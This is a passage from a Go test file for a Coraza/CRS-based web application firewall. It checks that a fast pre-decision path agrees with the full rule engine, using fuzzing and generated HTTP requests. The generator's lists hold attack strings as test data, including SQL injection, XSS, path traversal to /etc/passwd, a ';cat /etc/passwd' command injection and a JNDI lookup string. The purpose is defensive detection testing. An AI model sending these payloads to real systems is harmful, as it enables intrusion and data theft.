				checked++
				if m := reviewViewMissing(t, full, &c.ex, c.proto); m != "" {
					t.Errorf("%s %q: the view lacks Coraza's %s", v.name, c.name, m)
				}
				d, p := reviewDiff(t, full, fast, &c.ex, c.proto)
				if p {
					pre++
				}
				if rf, err := full.run(&c.ex, c.proto, nil); err == nil && full.detection(&c.ex, rf).Verdict != apisessions.VerdictClean {
					flagged++
				}
				if d == "" {
					continue
				}
				if why, ok := reviewKnown[v.name+"/"+c.name]; ok {
					t.Logf("known difference %s %q: %s (%s)", v.name, c.name, d, why)
					continue
				}
				t.Errorf("%s %q (%s %.80q %s): %s", v.name, c.name, c.ex.Request.Method, c.ex.Request.URL, c.proto, d)
			}
			t.Logf("%s: %d cases, %d pre-decided clean, %d flagged by full CRS", v.name, checked, pre, flagged)
			if flagged == 0 {
				t.Errorf("%s: the full engine flags no case: the table exercises no detection", v.name)
			}
			if pre == 0 {
				t.Errorf("%s: no case is pre-decided: the table does not exercise the pre-decision", v.name)
			}
		})
	}
}

// reviewEncode writes an exchange's headers as "name: value" lines for the
// fuzz target.
func reviewEncode(h apisessions.Headers) string {
	var b strings.Builder
	for _, x := range h {
		b.WriteString(x.Name)
		b.WriteString(": ")
		b.WriteString(x.Value)
		b.WriteString("\n")
	}
	return b.String()
}

// reviewDecode is reviewEncode's inverse (a line without ": " is a name).
func reviewDecode(s string) apisessions.Headers {
	var h apisessions.Headers
	for line := range strings.SplitSeq(s, "\n") {
		if line == "" {
			continue
		}
		name, value, _ := strings.Cut(line, ": ")
		h = append(h, apisessions.Header{Name: name, Value: value})
	}
	return h
}

// FuzzReviewPrejudge compares the engines on arbitrary exchanges, seeded
// with the table. Every exchange the pre-decision clears is run through the
// full engine, which must find it clean (no finding, score 0, not partial);
// one exchange in eight of the others is compared in full (verdict, score,
// rule IDs, partial), the table and the parity tests doing the rest.
func FuzzReviewPrejudge(f *testing.F) {
	for i, c := range reviewCases() {
		f.Add(uint8(i), c.ex.Request.Method, c.ex.Request.URL, c.proto, reviewEncode(c.ex.Request.Headers), c.ex.Request.Body)
	}
	f.Fuzz(func(t *testing.T, variant uint8, method, url, proto, headers string, body []byte) {
		if len(url)+len(headers)+len(body) > 16<<10 || sampleEvery > 1 && variant%4 != 0 {
			return // too large, or a seed the race detector's run steps over
		}
		// The variants where requests are pre-decided: paranoia 1, with the
		// tight limits, with exclusions.
		vs := []int{0, 4, 5, 6}
		v := reviewVariants[vs[int(variant)%len(vs)]]
		full, fast := reviewPair(t, v)
		ex := &apisessions.Exchange{Request: apisessions.Request{Method: method, URL: url, Headers: reviewDecode(headers), Body: body}}
		if m := reviewViewMissing(t, full, ex, proto); m != "" {
			t.Errorf("%s %q %q %q headers %q body %q: the view lacks Coraza's %s", v.name, method, url, proto, headers, body, m)
		}
		if clean, _ := fast.pre.decide(ex, proto); !clean {
			if variant/8%8 == 0 {
				if d, _ := reviewDiff(t, full, fast, ex, proto); d != "" {
					t.Errorf("%s %q %q %q headers %q body %q: %s", v.name, method, url, proto, headers, body, d)
				}
			}
			return
		}
		rf, err := full.run(ex, proto, nil)
		if err != nil {
			t.Fatalf("full: %v", err)
		}
		if d := full.detection(ex, rf); d.Verdict != apisessions.VerdictClean || d.Score != 0 || len(d.Findings) > 0 || d.Partial {
			t.Errorf("%s %q %q %q headers %q body %q: pre-decided clean, full %s/%d %v partial=%v",
				v.name, method, url, proto, headers, body, d.Verdict, d.Score, ruleIDs(rf), d.Partial)
		}
	})
}

// TestReviewFormNamesInCase: an attack in a form field is found whatever
// other field's name differs from it in case only. Coraza's urlencoded body
// processor parses the body into a map and copies it into its
// case-insensitive ARGS_POST with Set, so of "q" and "Q" only one survives,
// in map order: the full engine misses the attack most of the time (both
// modes do, so this is not a difference between them).
func TestReviewFormNamesInCase(t *testing.T) {
	t.Skip("DIFF: see notes (prejudge-diffs.md, form field names differing in case): Coraza drops one of the two fields at random")
	full, fast := enginePair(t, 1)
	for _, body := range []string{"q=1'%20or%20'1'='1&Q=ok", "a=<script>alert(1)</script>&A=x"} {
		ex := &apisessions.Exchange{Request: apisessions.Request{Method: "POST", URL: "/a", Headers: hdrs(rvForm), Body: []byte(body)}}
		for _, e := range []*Engine{full, fast} {
			for range 20 {
				d, err := e.Detect(context.Background(), ex)
				if err != nil {
					t.Fatal(err)
				}
				if !d.Malicious() {
					t.Fatalf("%s engine: %q found clean", e.opts.Mode, body)
				}
			}
		}
	}
}

// reviewGen builds exchanges from fragments that are easy to read
// differently from Coraza: separators, encodings, case-folded and empty
// names, odd cookies, JSON shapes and content types, with attacks mixed in.
type reviewGen struct{ r *rand.Rand }

var (
	rvSeps   = []string{"&", "&", "&", "&&", ";", "&amp;", "&=&", "&&&"}
	rvKeys   = []string{"a", "A", "q", "Q", "id", "%71", "%51", "q%00", "%3Cscript%3E", "", "_method", "json.a", "a[b]", "a.b", "+", "%", "%zz", "\xff", "caf\xc3\xa9", "x%20y", "a=b", "$Version", "__utmz", "_ga"}
	rvValues = []string{"1", "", "ok", "blue+house", "1'+or+'1'='1", "%27%20or%201=1--", "<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E",
		"..%2f..%2fetc%2fpasswd", "a%0Ab", "%u0027", "%", "%4", "+", "=", "==", "\\u003c", "select", "/etc/passwd", "javascript:alert(1)",
		"${jndi:ldap://x.example/a}", ";cat /etc/passwd", "%C0%AE%C0%AE", "caf\xc3\xa9", "\xfe\xff", "%00", "delete", "1e999", "null", "\"", "'", "a;b", "a,b"}
	rvPaths = []string{"/", "/api/users", "//api//x", "/a;b=c/d", "/a%2e%2e/b", "/x.bak", "/a b", "/a%", "http://h.example:81/p", "/a#x", "*", "/index.php", "/a/b.json", "/.env", "/a%2Fb", "/caf\xc3\xa9", "",
		"/x.%62ak", "/x.b%61k", "/x.bak%00", "/a.BAK", "/a.bak/", "/a.bak;x", "/a%2ebak", "/a.bak%20", "/a.ba+k", "/a.%u0062ak", "/a..bak", "/a.", "/a.bak.txt", "/a\\b.bak", "/a%5Cb.bak"}
	rvTypes = []string{"application/json", "application/x-www-form-urlencoded", "text/plain", "APPLICATION/JSON", " application/json", "application/json; charset=utf-8",
		"application/vnd.api+json", "application/x-www-form-urlencoded; charset=UTF-8", "text/json", "application/octet-stream", "", ";", "application/json\t", "application/xml+json",
		"application/json;", "application/json ;", "application/jsonx", "Application/Json", "application/json\x0b", "application/json,text/xml", "multipart/form-data", "text/xml",
		"application/x-www-form-urlencoded\x00", "application/json; charset=utf-7", "application/json;charset=\"utf-8\"", "application/cloudevents+json", "\u00a0application/json"}
	rvHeaderNames = []string{"X-Foo", "x-foo", "Referer", "Accept-Language", "Cookie", "cookie", "Content-Length", "Transfer-Encoding", "Range", "Proxy", "Accept-Charset", "Sec-Fetch-User", "X-Forwarded-For", "If", "Expect", "Connection",
		"if", "Content-Range", "X-Middleware-Subrequest", "accept-charset", "Proxy ", "proxy\t", "X-HTTP-Method-Override", "Content-Type", "Host", "User-Agent", "Accept", "X-Caf\xc3\xa9", ""}
	rvMethods = []string{"GET", "POST", "PUT", "get", "", "PATCH", "DELETE", "OPTIONS", "HEAD", "TRACE", "FOO"}
	rvProtos  = []string{"HTTP/1.1", "HTTP/1.1", "HTTP/1.1", "HTTP/1.0", "HTTP/2", "HTTP/2.0", "HTTP/3", ""}
)

func (g *reviewGen) pick(xs []string) string { return xs[g.r.IntN(len(xs))] }

// odd picks from xs one time in n, from usual otherwise.
func (g *reviewGen) odd(n int, usual, xs []string) string {
	if g.r.IntN(n) == 0 {
		return g.pick(xs)
	}
	return g.pick(usual)
}

var (
	rvUsualKeys   = []string{"a", "id", "page", "sort", "name", "q", "limit", "user_id", "filter"}
	rvUsualValues = []string{"1", "42", "ok", "blue", "name", "2024-01-01", "abc-def", "x%20y", "blue+house", ""}
)

func (g *reviewGen) pairs(sep func() string) string {
	var b strings.Builder
	for i := range g.r.IntN(5) {
		if i > 0 {
			b.WriteString(sep())
		}
		b.WriteString(g.odd(6, rvUsualKeys, rvKeys))
		if g.r.IntN(12) > 0 {
			b.WriteString("=")
			b.WriteString(g.odd(6, rvUsualValues, rvValues))
		}
	}
	return b.String()
}

func (g *reviewGen) json(depth int) string {
	switch k := g.r.IntN(7); {
	case k < 2 && depth < 4:
		var parts []string
		for range g.r.IntN(4) {
			parts = append(parts, strconv.Quote(g.odd(6, rvUsualKeys, rvKeys))+":"+g.json(depth+1))
		}
		return "{" + strings.Join(parts, ",") + "}"
	case k < 4 && depth < 4:
		var parts []string
		for range g.r.IntN(4) {
			parts = append(parts, g.json(depth+1))
		}
		return "[" + strings.Join(parts, ",") + "]"
	case k == 4:
		return g.pick([]string{"1", "-0.5", "1e999", "123456789012345678901234567890", "true", "null"})
	}
	v := g.odd(6, rvUsualValues, rvValues)
	if g.r.IntN(3) == 0 {
		v, _ = url.QueryUnescape(v)
	}
	q, _ := json.Marshal(v)
	s := string(q)
	if g.r.IntN(4) == 0 {
		s = strings.NewReplacer("<", `\u003c`, "'", `\u0027`).Replace(s)
	}
	return s
}

func (g *reviewGen) exchange() (*apisessions.Exchange, string) {
	ex := &apisessions.Exchange{Request: apisessions.Request{Method: g.odd(6, []string{"GET", "POST"}, rvMethods)}}
	sep := func() string { return g.odd(6, []string{"&"}, rvSeps) }
	u := g.odd(6, []string{"/api/users", "/api/orders/7", "/"}, rvPaths)
	if g.r.IntN(3) > 0 {
		u += "?" + g.pairs(sep)
	}
	ex.Request.URL = u
	h := apisessions.Headers{}
	if g.r.IntN(16) > 0 {
		h = append(h, rvH(g.odd(8, []string{"Host"}, []string{"host", "HOST"}), g.odd(8, []string{"api.example.com"}, []string{"api.example.com:8443", "10.0.0.1", "[::1]", ""})))
	}
	if g.r.IntN(16) > 0 {
		h = append(h, rvH("User-Agent", g.odd(8, []string{"Mozilla/5.0", "okhttp/4.12.0"}, []string{"", "sqlmap/1.7"})))
	}
	if g.r.IntN(16) > 0 {
		h = append(h, rvH("Accept", g.odd(8, []string{"*/*", "application/json"}, []string{"", "text/html;charset=utf-7"})))
	}
	for range g.r.IntN(3) {
		name := g.pick(rvHeaderNames)
		var value string
		switch strings.ToLower(name) {
		case "cookie":
			value = g.pairs(func() string { return g.odd(4, []string{"; "}, []string{";", " ; ", ";;", ", "}) })
		case "content-length":
			value = g.odd(4, []string{"0", "3"}, []string{"abc", "-1"})
		default:
			value = g.odd(4, rvUsualValues, rvValues)
		}
		h = append(h, rvH(name, value))
	}
	switch g.r.IntN(4) {
	case 1:
		ex.Request.Body = []byte(g.pairs(sep))
	case 2:
		ex.Request.Body = []byte(g.json(0))
	}
	if len(ex.Request.Body) > 0 || g.r.IntN(6) == 0 {
		for range 1 + g.r.IntN(8)/7 {
			h = append(h, rvH(g.pick([]string{"Content-Type", "content-type"}), g.odd(3, []string{"application/json", "application/x-www-form-urlencoded"}, rvTypes)))
		}
	}
	g.r.Shuffle(len(h), func(i, j int) { h[i], h[j] = h[j], h[i] })
	ex.Request.Headers = h
	return ex, g.odd(6, []string{"HTTP/1.1"}, rvProtos)
}

// TestReviewPrejudgeGenerated runs generated exchanges through the checks
// of the table: the view holds Coraza's values, a pre-decided clean is the
// full engine's answer, and one exchange in four is compared in full.
func TestReviewPrejudgeGenerated(t *testing.T) {
	n := 1200 / sampleEvery
	if testing.Short() {
		n /= 10
	}
	variants := []int{0, 1, 4, 6}
	if sampleEvery > 1 {
		variants = variants[:1]
	}
	for _, vi := range variants {
		v := reviewVariants[vi]
		t.Run(v.name, func(t *testing.T) { reviewGenerated(t, v, uint64(vi), n) })
	}
}

// reviewGenerated checks n exchanges of the generator seeded with seed
// under the variant.
func reviewGenerated(t *testing.T, v reviewVariant, seed uint64, n int) {
	full, fast := reviewPair(t, v)
	g := &reviewGen{r: rand.New(rand.NewPCG(seed, 7))}
	pre, flagged := 0, 0
	for i := range n {
		ex, proto := g.exchange()
		if m := reviewViewMissing(t, full, ex, proto); m != "" {
			t.Errorf("%d %s %q %q %q body %q: the view lacks Coraza's %s", i, v.name, ex.Request.Method, ex.Request.URL, proto, ex.Request.Body, m)
		}
		clean, _ := fast.pre.decide(ex, proto)
		if !clean && i%4 != 0 {
			continue
		}
		d, _ := reviewDiff(t, full, fast, ex, proto)
		if d != "" {
			t.Errorf("%d %s %q %q %q headers %q body %q: %s", i, v.name, ex.Request.Method, ex.Request.URL, proto, reviewEncode(ex.Request.Headers), ex.Request.Body, d)
		}
		if clean {
			pre++
		} else {
			flagged++
		}
	}
	t.Logf("%s: %d exchanges, %d pre-decided clean, %d others compared", v.name, n, pre, flagged)
	if pre == 0 || flagged == 0 {
		t.Errorf("%s: pre-decided %d, compared otherwise %d: the generator misses a side", v.name, pre, flagged)
	}
}

// TestReviewPrejudgeConcurrent: the pre-decision's pooled memory and its
// value memo give every goroutine the answer a lone caller gets.
func TestReviewPrejudgeConcurrent(t *testing.T) {
	_, fast := reviewPair(t, reviewVariants[0])
	cases := reviewCases()
	type answer struct {
		clean bool
		rule  int
	}
	want := make([]answer, len(cases))
	for i := range cases {
		want[i].clean, want[i].rule = fast.pre.decide(&cases[i].ex, cases[i].proto)
	}
	rounds := 20
	if sampleEvery > 1 {
		rounds = 1 // the race detector's run
	}
	var wg sync.WaitGroup
	errs := make(chan string, 8*len(cases))
	for w := range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for r := range rounds {
				for k := range cases {
					i := (k*7 + w*31 + r) % len(cases)
					clean, rule := fast.pre.decide(&cases[i].ex, cases[i].proto)
					if (answer{clean, rule}) != want[i] {
						select {
						case errs <- fmt.Sprintf("%q: concurrent answer %v/%d, alone %v/%d", cases[i].name, clean, rule, want[i].clean, want[i].rule):
						default:
						}
					}
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
}

// TestRestrictedHeaders checks the 920450 check's name list against the
// plain reading it replaces: the lower-cased name between slashes.
func TestRestrictedHeaders(t *testing.T) {
	lists := []string{"/content-encoding/proxy/lock-token/content-range/if/x-http-method-override/x-http-method/x-method-override/",
		"", "/", "//", "a/b/", "/a/b", "/a/b/c/", "/ſ/k/", "/A/b/", "a/A/"}
	names := []string{"Proxy", "proxy", "PROXY", "Proxy-Authorization", "If", "IF", "if-match", "a", "b", "A", "c", "a/b", "B/C",
		"", "s", "S", "k", "K", "Content-Type", "x-http-method", "X-HTTP-Method-Override", "lock-token/content-range"}
	for _, list := range lists {
		build := restrictedHeaders("tx.restricted")
		check, err := build(map[string][]string{"tx.restricted": {list}}, func(string) bool { return true })
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range names {
			want := strings.Contains(list, "/"+strings.ToLower(name)+"/")
			v := &reqView{headers: []apisessions.Header{{Name: name, Value: "1"}}}
			if got := check(v); got != want {
				t.Errorf("list %q, header %q: restricted %v, want %v", list, name, got, want)
			}
		}
	}
}
